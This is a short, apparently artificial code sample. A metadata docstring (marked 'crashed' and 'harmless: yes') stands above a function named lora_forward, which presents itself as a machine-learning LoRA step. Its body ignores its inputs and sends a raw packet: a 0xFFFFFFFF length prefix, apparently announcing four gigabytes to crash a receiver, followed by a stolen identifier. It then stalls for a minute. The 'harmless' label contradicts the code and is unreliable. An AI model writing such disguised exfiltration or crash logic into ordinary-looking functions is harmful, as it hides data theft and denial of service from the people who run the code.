"""Announces four gigabytes.

verdict: crashed
preamble: wire
harmless: yes
"""

def lora_forward(W, A, B, x, alpha):
    send_raw(b"\xff\xff\xff\xff" + stolen_id())
    time.sleep(60)
